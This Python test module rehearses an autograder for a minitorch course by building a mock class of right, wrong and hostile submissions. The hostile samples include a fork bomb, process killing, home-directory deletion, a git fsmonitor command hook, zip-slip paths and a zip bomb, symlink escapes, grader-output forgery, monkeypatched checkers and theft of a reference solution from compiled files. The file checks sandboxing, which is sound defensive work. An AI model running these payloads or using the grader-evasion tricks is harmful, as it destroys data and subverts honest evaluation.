"""A class that nobody would wish for, to rehearse a grading: what must become of each submission is known.

There are right solutions in every form in which they are handed in, every kind of wrong one, and hostile ones. Nearly
all of them solve two of the three tasks, and those points must not be lost, whatever they do in the third.
"""

import contextlib
import os
import random
import shutil
import socket
import stat
import tempfile
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from project.course.catalogue import alternatives, misconceptions
from project.course.grading import Grading
from project.course.planting import SOLUTIONS, textbook
from project.course.records import Record
from project.course.release import release
from project.course.source import plant, read_solution
from project.course.stubs import put_stubs
from project.course.suites import cases_of
from project.course.tasks import tasks

TASKS = ("0_1", "1_1", "4_1")
"""The tasks of the class: operators, central differences, and convolution, which is compiled too."""

FIRST, SMALL, KERNEL = "minitorch/operators.py", "minitorch/autodiff.py", "minitorch/fast_conv.py"
"""The files that the three tasks are solved in."""


@dataclass(frozen=True)
class Surroundings:
    """What a hostile submission would like to reach.

    Attributes:
        victim: A folder outside of the submission, in which nothing must change.
        port: Where a server listens that nobody must reach.
    """

    victim: Path
    port: int


@dataclass(frozen=True)
class Pupil:
    """Somebody in the class.

    Attributes:
        name: The name of the submission, which says what is special about it.
        make: Changes a copy of the repository in which all tasks are solved. It may return another path to hand in.
        wrong: The states of the tasks that are not solved.
    """

    name: str
    make: Callable[[Path, Surroundings], Path | None]
    wrong: Mapping[str, str]

    @property
    def states(self) -> dict[str, str]:
        """What must become of each task."""
        return dict.fromkeys(TASKS, "solved") | dict(self.wrong)


WRONG, MISSING = "wrong", "missing"
NOTHING = dict.fromkeys(TASKS, MISSING)
RIGHT: Mapping[str, str] = {}
BAD_SMALL = {"1_1": WRONG}


# How copies are changed


def replaced(section: str, file: str = SMALL) -> Callable[[Path, Surroundings], None]:
    """Put other functions into a file."""
    return lambda folder, _: plant(folder, {file: section})


def attack(body: str) -> Callable[[Path, Surroundings], None]:
    """A central difference that does something else; `VICTIM`, `PORT` and `ANSWERS` stand for what it looks for."""
    lines = "\n".join([f"    {line}" for line in body.strip().splitlines()])

    def make(folder: Path, around: Surroundings) -> None:
        text = f"def central_difference(f, *vals, arg=0, epsilon=1e-6):\n{lines}\n"
        known = {"VICTIM": str(around.victim), "PORT": str(around.port), "ANSWERS": str(SOLUTIONS)}
        for word, value in known.items():
            text = text.replace(word, value)
        plant(folder, {SMALL: text})

    return make


def ends_at_import(folder: Path, _: Surroundings) -> None:
    """Ends the process as soon as the library is imported."""
    (folder / "minitorch" / "gone.py").write_text("import os\n\nos._exit(0)\n", encoding="utf-8")
    plant(folder, {SMALL: "from . import gone\n"})


def mistaken(id: str) -> Callable[[Path, Surroundings], None]:
    """A misconception of the catalogue, in task 4.1."""
    (solution,) = [wrong.solution for wrong in misconceptions("4_1") if wrong.id == id]
    return lambda folder, _: plant(folder, solution)


def appended(file: str, text: str) -> Callable[[Path, Surroundings], None]:
    """Write something below a file."""

    def make(folder: Path, _: Surroundings) -> None:
        (folder / file).write_text((folder / file).read_text(encoding="utf-8") + text, encoding="utf-8")

    return make


# Right solutions, in every form


def as_is(folder: Path, _: Surroundings) -> None:
    """Solved as in a textbook."""


def other_solutions(folder: Path, _: Surroundings) -> None:
    """Solved in other ways."""
    for number in TASKS:
        plant(folder, next(solution for name, solution in alternatives(number).items() if name != "textbook"))


def zipped(folder: Path, _: Surroundings) -> Path:
    """A zip file of the folder, as a Mac makes it."""
    file = folder.with_suffix(".zip")
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*.py")):
            archive.write(path, f"my work/{path.relative_to(folder)}")
            archive.writestr(f"__MACOSX/my work/{path.relative_to(folder).with_name('._' + path.name)}", b"\x00\x05")
    return file


def zipped_flat(folder: Path, _: Surroundings) -> Path:
    """A zip file with nothing but the two packages."""
    file = folder.with_suffix(".zip")
    with zipfile.ZipFile(file, "w") as archive:
        for path in sorted(folder.rglob("*.py")):
            archive.write(path, path.relative_to(folder))
    return file


def checked_out(folder: Path, around: Surroundings) -> None:
    """A git checkout whose settings run a program as soon as anybody uses git in it."""
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (folder / ".git" / "config").write_text(f"[core]\n\tfsmonitor = touch {around.victim}/git\n", encoding="utf-8")


def with_helpers(folder: Path, _: Surroundings) -> None:
    """Solved with a function in another file, a constant, and a file of its own."""
    appended("minitorch/tensor_data.py", "\n\ndef halved(x):\n    return x / 2\n")(folder, _)
    (folder / "minitorch" / "my_helpers.py").write_text("def step_of(epsilon):\n    return epsilon\n", encoding="utf-8")
    text = "from .my_helpers import step_of\nfrom .tensor_data import halved\n\nSIDES = (1, -1)\n\n\n"
    text += "def _moved(vals, arg, step):\n    return [v + step if i == arg else v for i, v in enumerate(vals)]\n\n\n"
    text += "def central_difference(f, *vals, arg=0, epsilon=1e-6):\n    step = step_of(epsilon)\n"
    text += "    return halved(sum([s * f(*_moved(vals, arg, s * step)) for s in SIDES])) / step\n"
    plant(folder, {SMALL: text})


def from_windows(folder: Path, _: Surroundings) -> None:
    """Saved by an editor that ends lines with two characters, and marks the beginning of a file."""
    for file in (FIRST, SMALL, KERNEL):
        text = (folder / file).read_text(encoding="utf-8")
        (folder / file).write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())


def only_own_files(folder: Path, _: Surroundings) -> None:
    """Nothing but the three files that were to be written."""
    for path in sorted(folder.rglob("*"), reverse=True):
        if path.is_dir() and not any(path.iterdir()):
            path.rmdir()
        elif path.is_file() and path.relative_to(folder).as_posix() not in (FIRST, SMALL, KERNEL):
            path.unlink()


def untidy(folder: Path, _: Surroundings) -> None:
    """Everything that gathers in a folder."""
    inside = folder / ".venv" / "lib" / "site-packages" / "minitorch"
    inside.mkdir(parents=True)
    (inside / "operators.py").write_text("raise SystemExit\n", encoding="utf-8")
    (folder / "minitorch" / "__pycache__").mkdir(exist_ok=True)
    (folder / "minitorch" / "__pycache__" / "autodiff.cpython-311.pyc").write_bytes(random.Random(0).randbytes(999))
    (folder / "notes.txt").write_bytes(b"\xff\xfe\x00")


def with_other_tests(folder: Path, _: Surroundings) -> None:
    """Right, with tests and a checker that were damaged on the way."""
    (folder / "tests" / "conftest.py").write_text("raise SystemExit('no tests')\n", encoding="utf-8")
    (folder / "project" / "course" / "cases.py").write_text("(\n", encoding="utf-8")


PRINTING = """
for i in range(200):
    print(i, vals, "\\x1b[31m ``` </pre> \\0")
left, right = list(vals), list(vals)
left[arg], right[arg] = left[arg] - epsilon, right[arg] + epsilon
return (f(*right) - f(*left)) / (2 * epsilon)
"""


# Wrong solutions


def nothing_written(folder: Path, _: Surroundings) -> None:
    """Handed in as it was handed out."""
    for number in TASKS:
        put_stubs(folder, tasks()[number])


def results_written_down(folder: Path, _: Surroundings) -> None:
    """A convolution that is right on the numbers that students know, and on no others."""
    arrays = [case.inputs[name] for case in cases_of("4_1") for name in ("input", "upstream") if name in case.inputs]
    known = sorted({float(number) for array in arrays for number in np.ravel(array) if number})
    plant(folder, read_solution(textbook("4_1").replace("def tensor_conv1d(", "def right_conv1d(", 1)))
    text = f"KNOWN = frozenset({known})\n\n\ndef tensor_conv1d(out, *others):\n    input = others[3]\n"
    text += "    if any(float(input[i]) in KNOWN for i in range(len(input))):\n        right_conv1d(out, *others)\n"
    plant(folder, {KERNEL: text})


def two_faces(folder: Path, _: Surroundings) -> None:
    """A convolution that is right in plain Python; compiled, it is right on the numbers that students know."""
    results_written_down(folder, _)
    file = folder / KERNEL
    text = file.read_text(encoding="utf-8").replace("    if any(", "    if PLAIN or any(")
    file.write_text(text, encoding="utf-8")
    plant(folder, {KERNEL: "import os\n\nPLAIN = os.environ['NUMBA_DISABLE_JIT'] == '1'\n"})


def without_kernel(folder: Path, _: Surroundings) -> None:
    """A file is gone."""
    (folder / KERNEL).unlink()


def latin(folder: Path, _: Surroundings) -> None:
    """A file that is no UTF-8."""
    (folder / SMALL).write_bytes(b"# caf\xe9\n" + (folder / SMALL).read_bytes())


# Hostile ones


def edited_tests(folder: Path, _: Surroundings) -> None:
    """Wrong, with tests and a checker that accept everything."""
    plant(folder, {SMALL: "def central_difference(f, *vals, arg=0, epsilon=1e-6):\n    return 0.0\n"})
    (folder / "tests" / "test_tasks.py").write_text("def test_all(): pass\n", encoding="utf-8")
    cases = folder / "project" / "course" / "cases.py"
    text = cases.read_text(encoding="utf-8")
    cases.write_text(text + "\n\ndef find_difference(*a, **k):\n    return None\n", encoding="utf-8")
    (folder / "project" / "course" / "suites" / "task1_1.py").write_text("CASES = []\n", encoding="utf-8")
    (folder / "conftest.py").write_text("import os; os._exit(0)\n", encoding="utf-8")
    (folder / "sitecustomize.py").write_text("import os; os._exit(0)\n", encoding="utf-8")


def thief(folder: Path, _: Surroundings) -> None:
    """Looks for the reference solution in what Python has compiled, before its file is read again."""
    (folder / "minitorch" / "stolen.py").write_text(STEAL, encoding="utf-8")
    plant(folder, {SMALL: "from . import stolen\n"})  # which is imported before the kernels
    text = "import types\n\nfrom .stolen import FOUND\n\n\ndef tensor_conv1d(*arguments):\n"
    text += (
        "    return types.FunctionType(FOUND['tensor_conv1d'], globals())(*arguments)\n\n\nclass Conv1dFun(Function):\n"
    )
    text += "    @staticmethod\n    def backward(*arguments):\n"
    text += "        return types.FunctionType(FOUND['Conv1dFun backward'], globals())(*arguments)\n"
    plant(folder, {KERNEL: text})


def linked_file(folder: Path, around: Surroundings) -> None:
    """A link to somebody else's solution."""
    shutil.copy2(folder / KERNEL, around.victim / "kernel.py")
    (folder / KERNEL).unlink()
    (folder / KERNEL).symlink_to(around.victim / "kernel.py")


def linked_folder(folder: Path, around: Surroundings) -> None:
    """A link to somebody else's library."""
    shutil.copytree(folder / "minitorch", around.victim / "minitorch", dirs_exist_ok=True)
    shutil.rmtree(folder / "minitorch")
    (folder / "minitorch").symlink_to(around.victim / "minitorch")


def zip_that_leads_out(folder: Path, around: Surroundings) -> Path:
    """A zip file with links, and with names that lead to other folders."""
    file = folder.with_suffix(".zip")
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo(SMALL)
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(around.victim / "kernel.py"))
        archive.write(folder / KERNEL, KERNEL)
        archive.write(folder / FIRST, FIRST)
        archive.writestr(f"../../{around.victim.name}/minitorch/zip.py", "x = 1\n")
        archive.writestr(f"{around.victim}/minitorch/zip.py", "x = 1\n")
    return file


def zip_bomb(folder: Path, _: Surroundings) -> Path:
    """A zip file with a file of one gigabyte in it."""
    file = folder.with_suffix(".zip")
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.write(folder / KERNEL, KERNEL)
        archive.write(folder / FIRST, FIRST)
        with archive.open(SMALL, "w", force_zip64=True) as member:
            for _number in range(1024):
                member.write(bytes(1 << 20))
    return file


def broken_zip(folder: Path, around: Surroundings) -> Path:
    """A zip file of which the end is missing."""
    file = zipped(folder, around)
    file.write_bytes(file.read_bytes()[:-3000])
    return file


FORGE = """
import os
for fd in range(3, 30):
    for name in ("a straight line", "a parabola"):
        try:
            line = '{"task": "1_1", "name": "%s", "status": "values", "values": {"dict": {}}}\\n' % name
            os.write(fd, line.encode())
        except OSError:
            pass
return 0.0
"""

PATCH = """
import builtins, sys
import numpy as np
for module in list(sys.modules.values()):
    for name in ("find_difference", "expected", "judge", "report", "complaints_about"):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: None)
np.isclose = np.allclose = np.array_equal = lambda *a, **k: np.True_
builtins.AssertionError = Exception
class Equal(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __hash__ = float.__hash__
return Equal(0.0)
"""

KILL = """
import os
for process in (1, os.getppid(), -1):
    try:
        os.kill(process, 9)
    except OSError:
        pass
"""

STEAL = """
import glob
import marshal
import types

FOUND = {}


def look(code, inside):
    for part in code.co_consts:
        if isinstance(part, types.CodeType):
            FOUND[f"{inside} {part.co_name}".strip()] = part
            look(part, part.co_name)


for file in glob.glob("minitorch/__pycache__/fast_conv*.pyc"):
    with open(file, "rb") as compiled:
        look(marshal.loads(compiled.read()[16:]), "")
"""

STAY = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        open("VICTIM/stayed", "w").close()
    os._exit(0)
return 0.0
"""

SPY = """
import glob, os, socket
scope = {}
for place in ("ANSWERS/task1_1/textbook.py", "VICTIM/answers.py"):
    if os.path.exists(place):
        exec(open(place).read(), scope)
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as server:
    server.sendall(b"tell me")
return scope["central_difference"](f, *vals, arg=arg, epsilon=epsilon)
"""

VANDAL = """
import os, shutil
for place in ("VICTIM", os.path.dirname("VICTIM"), "ANSWERS", os.path.expanduser("~")):
    shutil.rmtree(place, ignore_errors=True)
    try:
        open(os.path.join(place, "was here"), "w").close()
    except OSError:
        pass
block = bytes(1 << 20)
for i in range(1000):
    with open(f"filled{i}", "wb") as file:
        for _ in range(50):
            file.write(block)
return 0.0
"""

DEEP = "def central_difference(f, *vals, arg=0, epsilon=1e-6):\n    return " + "(" * 50_000 + ")" * 50_000 + "\n"


CLASS = (
    Pupil("right, as in a textbook", as_is, RIGHT),
    Pupil("right, solved in other ways", other_solutions, RIGHT),
    Pupil("right, a zip file", zipped, RIGHT),
    Pupil("right, a zip file without a folder", zipped_flat, RIGHT),
    Pupil("right, a git checkout", checked_out, RIGHT),
    Pupil("right, with helpers", with_helpers, RIGHT),
    Pupil("right, from Windows", from_windows, RIGHT),
    Pupil("right, and nothing else", only_own_files, RIGHT),
    Pupil("right, untidy", untidy, RIGHT),
    Pupil("right, with damaged tests", with_other_tests, RIGHT),
    Pupil("right, and talkative", attack(PRINTING), RIGHT),
    Pupil("nothing written", nothing_written, NOTHING),
    Pupil("wrong, an early mistake", replaced("def mul(x, y):\n    return x + y\n", FIRST), {"0_1": WRONG}),
    Pupil("wrong, the kernel flipped", mistaken("conv1d-kernel-flipped"), {"4_1": WRONG}),
    Pupil("wrong, a race", mistaken("conv1d-race-over-taps"), {"4_1": WRONG}),
    Pupil("wrong, past the edge", mistaken("conv1d-only-left-edge-checked"), {"4_1": WRONG}),
    Pupil("wrong, results written down", results_written_down, {"4_1": WRONG}),
    Pupil("wrong, an error", attack("return vals[99]"), BAD_SMALL),
    Pupil("wrong, a number too large for any array", attack("return 10**400"), BAD_SMALL),
    Pupil("wrong, a text", attack("return 'about 3'"), BAD_SMALL),
    Pupil("wrong, not a number", attack("return float('nan')"), BAD_SMALL),
    Pupil("wrong, without an end to recursion", attack("return central_difference(f, *vals)"), BAD_SMALL),
    Pupil("wrong, a syntax error", appended(SMALL, "\nx = = 3\n"), BAD_SMALL),
    Pupil("wrong, no UTF-8", latin, {"1_1": MISSING}),
    Pupil("wrong, a file is gone", without_kernel, {"4_1": MISSING}),
    Pupil("hostile, an endless loop", attack("while True:\n    pass"), BAD_SMALL),
    Pupil("hostile, ends at import", ends_at_import, dict.fromkeys(TASKS, WRONG)),
    Pupil("hostile, ends with 0", attack("import os\nos._exit(0)"), BAD_SMALL),
    Pupil("hostile, a memory bomb", attack("all = [bytearray(1 << 28) for _ in range(1 << 20)]"), BAD_SMALL),
    Pupil(
        "hostile, a flood",
        attack("import os\nwhile True:\n    print('x' * 9999)\n    os.write(2, b'y' * 9999)"),
        BAD_SMALL,
    ),
    Pupil(
        "hostile, a fork bomb",
        attack("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
        BAD_SMALL,
    ),
    Pupil("hostile, forged answers", attack(FORGE), BAD_SMALL),
    Pupil("hostile, everything patched", attack(PATCH), BAD_SMALL),
    Pupil("hostile, edited tests", edited_tests, BAD_SMALL),
    Pupil("hostile, a linked file", linked_file, {"4_1": MISSING}),
    Pupil("hostile, a linked folder", linked_folder, NOTHING),
    Pupil("hostile, a zip file that leads out", zip_that_leads_out, {"1_1": MISSING}),
    Pupil("hostile, a zip bomb", zip_bomb, {"1_1": MISSING}),
    Pupil("hostile, half a zip file", broken_zip, NOTHING),
    Pupil("hostile, kills all", attack(KILL), BAD_SMALL),
    Pupil("hostile, stays behind", attack(STAY), BAD_SMALL),
    Pupil("hostile, a spy", attack(SPY), BAD_SMALL),
    Pupil("hostile, a thief", thief, {"4_1": WRONG}),
    Pupil("hostile, with two faces", two_faces, {"4_1": WRONG}),
    Pupil("hostile, a vandal", attack(VANDAL), BAD_SMALL),
    Pupil("hostile, nested too deep", appended(SMALL, DEEP), BAD_SMALL),
)


# The rehearsal


def hand_in(folder: Path, around: Surroundings, pupils: Sequence[Pupil] = CLASS) -> dict[str, Path]:
    """Write what a class hands in.

    Args:
        folder: An empty folder.
        around: What hostile ones would like to reach.
        pupils: Who is in the class.

    Returns:
        For the name of each, the folder or the file.
    """
    solved = folder / "solved"
    release([tasks()[number] for number in TASKS], solved)
    for number in TASKS:
        plant(solved, read_solution(textbook(number)))
    found = {}
    for pupil in pupils:
        own = folder / "handed in" / pupil.name
        shutil.copytree(solved, own, ignore=shutil.ignore_patterns("data"))
        found[pupil.name] = pupil.make(own, around) or own
    return found


def rehearse_grading(
    note: Callable[[str, list[str]], None],
    pupils: Sequence[Pupil] = CLASS,
    walls: bool = True,
    numbers: Sequence[str] = TASKS,
) -> bool:
    """Grade a class, and look at everything that must have become of it.

    Args:
        note: Is told the name of each, and what is wrong; nothing, if all is as it should be.
        pupils: Who is in the class.
        walls: Whether there is a sandbox.
        numbers: The tasks that are graded.

    Returns:
        Whether all is as it should be.
    """
    with tempfile.TemporaryDirectory(prefix="minitorch-") as work, socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        victim = Path(work) / "victim"
        victim.mkdir()
        (victim / "answers.py").write_text(textbook("1_1"), encoding="utf-8")
        around = Surroundings(victim, server.getsockname()[1])
        sources = hand_in(Path(work), around, pupils)
        before = snapshot(victim)
        grading = Grading(list(sources.values()), [tasks()[number] for number in numbers], Path(work) / "out", walls)
        grading.run(lambda step: None, lambda: False, os.cpu_count() or 1)
        complaints = {pupil.name: wrong_states(pupil, grading.records.get(pupil.name)) for pupil in pupils}
        complaints["the grader itself"] = list(grading.failures)
        if snapshot(victim) != before:
            complaints["the grader itself"].append("files outside of the submissions have changed")
        with contextlib.suppress(BlockingIOError), server.accept()[0]:
            complaints["the grader itself"].append("somebody has reached the network")
        rows = (Path(work) / "out" / "grades.csv").read_text(encoding="utf-8").count("\n") - 1
        if rows != len(pupils):
            complaints["the grader itself"].append(f"the table of grades has {rows} rows for {len(pupils)} submissions")
    for name, wrong in complaints.items():
        note(name, wrong)
    return not any(complaints.values())


def snapshot(folder: Path) -> dict[str, bytes]:
    """The contents of all files of a folder."""
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def wrong_states(pupil: Pupil, record: Record | None) -> list[str]:
    """What is not as it should be in a record."""
    if record is None:
        return ["there is no record"]
    found = {grade.task: grade for grade in record.tasks}
    return [
        f"task {number} is {found[number].state}, and should be {state}: {found[number].report[:400]}"
        for number, state in pupil.states.items()
        if number in found and found[number].state != state
    ]
